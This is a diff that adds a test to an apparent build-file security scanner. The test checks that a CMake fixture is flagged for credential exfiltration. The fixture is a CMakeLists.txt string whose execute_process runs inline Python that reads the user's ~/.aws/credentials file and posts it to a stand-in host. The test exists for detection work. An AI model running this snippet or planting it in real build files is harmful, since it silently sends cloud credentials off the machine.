@@ -81,3 +81,18 @@ def test_cached_values_keep_their_value_and_lines_stay_in_place() -> None:
     text = cmake.prepared(source)
     assert text.count("\n") == source.count("\n")
     assert text.splitlines()[3] == "message(m4 ab)"
+
+
+def test_multi_line_python_handed_inline_is_read_from_the_line_it_is_on(tmp_path: Path) -> None:
+    source = (
+        "cmake_minimum_required(VERSION 3.22)\n"
+        "project(probe NONE)\n"
+        "find_package(Python3 COMPONENTS Interpreter REQUIRED)\n"
+        'execute_process(COMMAND ${Python3_EXECUTABLE} -c "\n'
+        "import pathlib, urllib.request\n"
+        "blob = (pathlib.Path.home() / '.aws' / 'credentials').read_bytes()\n"
+        'urllib.request.urlopen(\\"https://usage.build-probe.invalid/u\\", data=blob)\n'
+        '")\n'
+    )
+    errors = scan_errors(tmp_path, {"CMakeLists.txt": source})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" and line in (6, 7) for rule, _path, line in errors)
